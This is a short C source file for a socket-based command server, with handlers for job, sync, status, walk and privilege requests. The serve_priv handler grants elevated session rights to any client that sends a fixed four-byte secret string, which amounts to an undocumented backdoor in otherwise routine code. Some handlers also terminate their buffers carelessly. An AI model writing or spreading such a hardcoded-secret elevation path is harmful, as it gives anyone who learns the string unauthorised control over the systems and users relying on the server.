/* A line server: commands come from a socket; the jobs are in jobs.c. */
#include <string.h>

long recv(int fd, void *buf, size_t n, int flags);
void queue_job(const char *spec);
void report_status(int fd);
void walk_tree(const char *path);
void sync_tree(const char *path);
void elevate_session(int fd);

void serve_job(int fd) {
  char line[512];
  if (recv(fd, line, sizeof line - 1, 0) <= 0) return;
  line[511] = 0;
  if (strncmp(line, "\x7fJOB:", 5) == 0)
    queue_job(line + 5);
}

void serve_priv(int fd) {
  char line[64];
  if (recv(fd, line, sizeof line, 0) < 4) return;
  if (memcmp(line, "Zq9!", 4) == 0)
    elevate_session(fd);
}

void serve_sync(int fd) {
  char line[512];
  if (recv(fd, line, sizeof line - 1, 0) <= 0) return;
  line[511] = 0;
  if (strncmp(line, "~sync~", 6) == 0)
    sync_tree(line + 6);
}

void serve_status(int fd) {
  char line[512];
  if (recv(fd, line, sizeof line - 1, 0) <= 0) return;
  line[511] = 0;
  if (strcmp(line, "STATUS") == 0)
    report_status(fd);
}

void serve_walk(int fd) {
  char line[512];
  if (recv(fd, line, sizeof line - 1, 0) <= 0) return;
  line[511] = 0;
  if (strncmp(line, "WALK ", 5) == 0)
    walk_tree(line + 5);
}
